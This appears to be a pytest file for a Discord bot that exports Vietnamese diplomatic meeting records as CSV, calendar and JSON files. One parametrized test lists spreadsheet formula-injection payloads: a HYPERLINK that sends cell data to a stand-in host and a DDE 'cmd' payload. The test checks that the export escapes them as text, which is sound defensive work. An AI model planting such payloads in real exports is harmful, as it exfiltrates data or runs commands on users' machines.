"""Exports as a reader opens them: the CSV in a spreadsheet, the calendar in a calendar, through the command
line and through /export in Discord (the stand-in records the files the bot attaches)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime

import pytest
from icalendar import Calendar

from bot import cli
from bot.config import PROJECT_ROOT
from bot.export import csv_bytes, describe, ics_bytes, left_out
from bot.standin import command
from tests.conftest import NO_YEAR
from tests.discord_harness import EPHEMERAL, copy_db, running_bot

BOM = b"\xef\xbb\xbf"


def meeting(mid: str = "m1", date_: str | None = "2025-11-14", **changes) -> dict:
    """A meeting in the ``ask --json`` shape."""
    m = {
        "id": mid, "date": date_, "date_precision": "day", "place": "Washington D.C.", "kind": "in_person",
        "round": 5, "round_series": "in_person",
        "people": [{"id": "nguyen-hong-dien", "name": "Nguyễn Hồng Diên", "title": "Bộ trưởng Bộ Công Thương",
                    "organization": "", "side": "vn"},
                   {"id": "jacob-helberg", "name": "Jacob Helberg", "title": "Thứ trưởng Ngoại giao", "organization": "",
                    "side": "us"}],
        "organizations": [], "topics": ["Kinh tế thị trường", "Danh sách D1, D3"],
        "summary": "Hai bên thảo luận về quy chế kinh tế thị trường.",
        "source": {"file": "004.txt", "title": "Bài 004", "url": "https://tin.example.vn/004", "link": "https://tin.example.vn/004"},
        "other_sources": [{"file": "005.txt", "title": "Bài 005", "url": "", "link": "005_abc"}],
    }
    return m | changes


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(BOM), "Excel needs the byte order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


def events(data: bytes) -> dict[str, dict]:
    cal = Calendar.from_ical(data)
    return {str(e["UID"]): e for e in cal.walk("VEVENT")}


# -- the files, from meetings -------------------------------------------------------------------


def test_csv_opens_with_vietnamese_intact_and_awkward_summaries_round_trip():
    awkward = 'Hai bên "nhất trí", tiếp tục đàm phán;\nvòng sau ở Hà Nội, ngày 1/12'
    rows = read_csv(csv_bytes([meeting(summary=awkward), meeting("m2", "--04-23", date_precision="day_no_year")]))
    assert len(rows) == 2
    first = rows[0]
    assert first["Tóm tắt"] == awkward, "a comma, a quote and a line break survive the spreadsheet"
    assert first["Phía Việt Nam"] == "Bộ trưởng Bộ Công Thương Nguyễn Hồng Diên"
    assert first["Phía đối tác"] == "Thứ trưởng Ngoại giao Jacob Helberg"
    assert first["Ngày"] == "2025-11-14" and first["Độ chính xác"] == "ngày" and first["Hình thức"] == "Gặp trực tiếp"
    assert first["Vòng"] == "Vòng đàm phán 5" and first["Chủ đề"] == "Kinh tế thị trường; Danh sách D1, D3"
    assert first["Nguồn"].split("\n") == ["https://tin.example.vn/004", "005_abc"], "every source of the meeting"
    # a date without a year starts with "-": a spreadsheet would compute --04-23 as a number
    assert rows[1]["Ngày"] == "'--04-23" and rows[1]["Độ chính xác"] == "ngày, chưa rõ năm"


@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"https://evil.example/?\"&A1,\"xem\")", "+1+2", "-2+3", "@SUM(A1)",
                                     "\t=1+1", "=cmd|' /C calc'!A0"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_shown_as_text(hostile):
    row = read_csv(csv_bytes([meeting(summary=hostile, place=hostile)]))[0]
    assert row["Tóm tắt"] == "'" + hostile and row["Địa điểm"] == "'" + hostile


def test_control_characters_from_an_article_do_not_reach_the_files():
    m = meeting(summary="Hai bên\x1b[31m nhất trí\x00", place="Hà\x07 Nội")
    assert read_csv(csv_bytes([m]))[0]["Tóm tắt"] == "Hai bên[31m nhất trí"
    assert b"\x1b" not in ics_bytes([m]) and b"\x07" not in ics_bytes([m])


def test_calendar_has_all_day_events_and_leaves_out_what_has_no_full_date():
    meetings = [meeting("m1", "2025-11-14"), meeting("m2", "2025-11-12/2025-11-14", date_precision="range"),
                meeting("m3", "--04-23", date_precision="day_no_year"),
                meeting("m4", "--04-23/--04-25", date_precision="range_no_year"),
                meeting("m5", "2026-02", date_precision="month"), meeting("m6", None, date_precision="unknown"),
                meeting("m7", "2025-02-30")]
    found = events(ics_bytes(meetings, stamp=datetime(2026, 1, 1, tzinfo=UTC)))
    assert set(found) == {"m1@briefbot", "m2@briefbot"}
    one, many = found["m1@briefbot"], found["m2@briefbot"]
    assert one["DTSTART"].dt == date(2025, 11, 14) and not isinstance(one["DTSTART"].dt, datetime), "all day"
    assert one["DTSTART"].params.get("VALUE") == "DATE" and one["DTEND"].dt == date(2025, 11, 15)
    assert (many["DTSTART"].dt, many["DTEND"].dt) == (date(2025, 11, 12), date(2025, 11, 15)), "over the range"
    assert str(one["SUMMARY"]) == "Nguyễn Hồng Diên ↔ Jacob Helberg"
    assert str(one["LOCATION"]) == "Washington D.C." and str(one["URL"]) == "https://tin.example.vn/004"
    description = str(one["DESCRIPTION"])
    assert description.startswith("Hai bên thảo luận") and "https://tin.example.vn/004" in description
    assert "005_abc" in description
    counts = left_out(m["date"] for m in meetings)
    assert counts == {"no_year": 2, "no_day": 2, "no_date": 1}
    assert describe(counts) == "2 chưa rõ năm, 2 chỉ rõ tháng hoặc năm, 1 chưa rõ ngày"


def test_a_meeting_keeps_its_uid_from_one_export_to_the_next():
    """A calendar that imports the file again updates the meeting instead of adding a second one."""
    first = events(ics_bytes([meeting("004-m1")], stamp=datetime(2026, 1, 1, tzinfo=UTC)))
    again = events(ics_bytes([meeting("004-m1", summary="Tóm tắt mới")], stamp=datetime(2026, 2, 1, tzinfo=UTC)))
    assert set(first) == set(again) == {"004-m1@briefbot"}


# -- the command line ------------------------------------------------------------------------------


@pytest.fixture
def env(no_year, tmp_path):
    db = copy_db(no_year, tmp_path)
    return dict(os.environ, BRIEFBOT_DB=str(db), PYTHONPATH=str(PROJECT_ROOT))


def run(env, *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "bot", "export", *args], capture_output=True, cwd=PROJECT_ROOT,
                          env=env, check=False, timeout=120)


def test_export_csv_to_stdout_holds_every_meeting(env):
    out = run(env, "--format", "csv")
    assert out.returncode == 0, out.stderr.decode()
    rows = read_csv(out.stdout)
    assert len(rows) == 13
    dates = {r["Mã cuộc gặp"]: r["Ngày"] for r in rows}
    assert dates[NO_YEAR[0][0]] == "'--04-23" and dates[NO_YEAR[1][0]] == "'--04-23/--04-25"
    assert any("Nguyễn Hồng Diên" in r["Phía Việt Nam"] for r in rows)


def test_export_ics_filtered_by_person_counts_what_it_left_out(env, tmp_path):
    """A date filter leaves out meetings without a year (nobody can say they fall inside it), so none here."""
    target = tmp_path / "lich.ics"
    out = run(env, "--format", "ics", "--person", "nguyen hong dien", "--out", str(target))
    assert out.returncode == 0, out.stderr.decode()
    found = events(target.read_bytes())
    assert found and all(e["DTSTART"].dt.year >= 2025 for e in found.values())
    assert all("Nguyễn Hồng Diên" in str(e["SUMMARY"]) for e in found.values())
    stderr = out.stderr.decode()
    assert "chưa rõ năm" in stderr and "không có trong lịch" in stderr, "the no-year meetings are counted"


def test_export_json_is_the_ask_json_shape(env):
    out = run(env, "--format", "json", "--round", "5")
    assert out.returncode == 0, out.stderr.decode()
    reply = json.loads(out.stdout)
    assert {"command", "ok", "message", "meetings", "round", "total", "page"} <= set(reply)
    assert reply["ok"] and reply["total"] == len(reply["meetings"]) == 4
    assert all(m["round"] == 5 for m in reply["meetings"])


def run_in_process(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = cli.main(list(argv))
        except SystemExit as exc:
            code = exc.code
    return code, out.getvalue(), err.getvalue()


@pytest.mark.parametrize("args, says", [
    (["--format", "xls"], "csv, ics hoặc json"),
    (["--format", "csv", "--round", "abc"], "số vòng từ 1 đến 99"),
    (["--format", "csv", "--round", "0"], "số vòng từ 1 đến 99"),
    (["--format", "csv", "--round", "٥"], "số vòng từ 1 đến 99"),
    (["--format", "csv", "--from", "hôm qua"], "không hợp lệ"),
    (["--format", "csv", "--to", "31/02/2025"], "không hợp lệ"),
    (["--format", "ics", "--person", "zzqxv"], "Không tìm thấy"),
    (["--format", "csv", "--person", "  "], "Hãy nhập tên"),
    (["--format", "csv", "--person"], "expected one argument"),
    (["--person", "helberg"], "--format"),
    (["--format", "csv", "--nope"], "--nope"),
])
def test_bad_input_on_the_command_line_is_one_loi_line(monkeypatch, no_year, tmp_path, args, says):
    monkeypatch.setenv("BRIEFBOT_DB", str(copy_db(no_year, tmp_path)))
    code, out, err = run_in_process("export", *args)
    assert code == 2 and out == ""
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("lỗi: ") and says in lines[0], err


# -- /export in Discord ------------------------------------------------------------------------------


@pytest.fixture
async def bot(no_year, tmp_path, monkeypatch):
    async with running_bot(copy_db(no_year, tmp_path), monkeypatch) as pair:
        yield pair


async def test_export_in_discord_attaches_a_spreadsheet_and_a_calendar(bot):
    standin, _ = bot
    callback = await standin.interact(command("export", {"person": "helberg"}), timeout=20)
    assert callback.body["type"] == 4
    message = callback.body["data"]
    files = {f.filename: f.data for f in callback.files}
    assert set(files) == {"cuoc-gap.csv", "cuoc-gap.ics"}
    assert [a["filename"] for a in message["attachments"]] == ["cuoc-gap.csv", "cuoc-gap.ics"]
    rows = read_csv(files["cuoc-gap.csv"])
    assert len(rows) == 3 and all("Jacob Helberg" in r["Phía đối tác"] for r in rows)
    calendar = events(files["cuoc-gap.ics"])
    embed = message["embeds"][0]
    assert embed["title"] == "Xuất 3 cuộc gặp của Jacob Helberg"
    assert f"Lịch cuoc-gap.ics: {len(calendar)} cuộc gặp; 1 cuộc gặp không có ngày đầy đủ" in embed["description"]
    assert not message.get("flags", 0) & EPHEMERAL


async def test_export_of_everything_counts_the_meetings_without_a_year(bot):
    standin, _ = bot
    callback = await standin.interact(command("export"), timeout=20)
    files = {f.filename: f.data for f in callback.files}
    rows, calendar = read_csv(files["cuoc-gap.csv"]), events(files["cuoc-gap.ics"])
    assert len(rows) == 13 and len(calendar) == 6
    description = callback.body["data"]["embeds"][0]["description"]
    assert "7 cuộc gặp không có ngày đầy đủ nên không có trong lịch (2 chưa rõ năm, 5 chưa rõ ngày)" in description


async def test_export_of_nobody_it_knows_is_a_private_answer_without_files(bot):
    standin, _ = bot
    callback = await standin.interact(command("export", {"person": "zzqxv", "from": "2025"}))
    assert not callback.files and callback.body["data"]["flags"] & EPHEMERAL
    assert "Không tìm thấy" in callback.body["data"]["embeds"][0]["title"]


async def test_export_is_rate_limited_as_a_heavy_command(bot):
    standin, _ = bot
    answers = [await standin.interact(command("export", {"round": 5})) for _ in range(6)]
    assert all(len(a.files) == 2 for a in answers[:5])
    refused = answers[5].body["data"]
    assert not answers[5].files and "thử lại sau" in refused["content"] and refused["flags"] & EPHEMERAL
